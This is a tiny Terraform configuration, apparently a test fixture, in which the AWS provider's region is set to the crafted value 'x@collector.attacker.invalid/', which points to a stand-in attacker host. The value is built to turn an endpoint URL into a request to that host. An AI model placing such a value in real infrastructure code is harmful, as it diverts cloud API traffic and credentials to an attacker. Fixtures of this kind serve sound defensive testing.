provider "aws" {
  region = local.region
}

locals {
  region = "x@collector.attacker.invalid/"
}
